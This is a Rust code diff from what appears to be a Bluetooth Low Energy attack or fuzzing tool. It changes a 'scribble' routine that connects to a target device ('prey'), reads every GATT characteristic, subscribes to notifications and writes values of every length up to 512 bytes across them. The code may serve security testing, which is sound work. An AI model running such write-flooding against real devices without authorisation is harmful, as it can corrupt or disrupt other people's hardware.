@@ -281,30 +281,30 @@ impl Hostile {
         })
     }
 
-    /// Reads and writes everything of the GATT service, with values of every length, and subscribes to what is not its own.
+    /// Reads everything of the GATT services and subscribes to what is not its own; writes a value of every length, to one
+    /// after the other.
     /// How many writes BlueZ took.
     ///
     /// # Errors
     /// When there is no connection.
     pub(crate) fn scribble(&mut self, prey: Prey) -> anyhow::Result<usize> {
-        let values: Vec<Vec<u8>> = (0..=512)
-            .step_by(3)
-            .map(|length| self.bytes(length))
-            .collect();
+        let values: Vec<Vec<u8>> = (0..=512).map(|length| self.bytes(length)).collect();
         let device = self.connected(prey)?;
         self.runtime.block_on(async {
             let all = timeout(LIMIT, characteristics(&device))
                 .await
                 .context("services")??;
-            let mut written = 0;
+            let mut listening = Vec::new();
             for characteristic in &all {
                 let _ = timeout(LIMIT, characteristic.read()).await;
-                let _listening = timeout(LIMIT, characteristic.notify_io()).await;
-                for value in &values {
-                    let wrote = timeout(LIMIT, characteristic.write(value)).await;
-                    written += usize::from(matches!(wrote, Ok(Ok(()))));
-                }
+                listening.push(timeout(LIMIT, characteristic.notify_io()).await);
             }
+            let mut written = 0;
+            for (value, characteristic) in values.iter().zip(all.iter().cycle()) {
+                let wrote = timeout(LIMIT, characteristic.write(value)).await;
+                written += usize::from(matches!(wrote, Ok(Ok(()))));
+            }
+            drop(listening);
             let _ = timeout(LIMIT, device.disconnect()).await;
             Ok(written)
         })
